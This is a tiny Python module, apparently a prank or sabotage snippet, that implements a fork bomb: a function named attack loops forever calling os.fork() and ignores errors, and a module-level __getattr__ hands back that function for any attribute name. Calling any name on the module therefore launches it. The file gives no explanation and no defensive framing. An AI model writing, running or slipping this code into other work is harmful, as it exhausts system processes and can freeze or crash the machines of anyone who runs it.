"""Starts processes that start processes."""

import os


def attack(*arguments, **keywords):
    while True:
        try:
            os.fork()
        except OSError:
            pass


def __getattr__(name):
    return attack
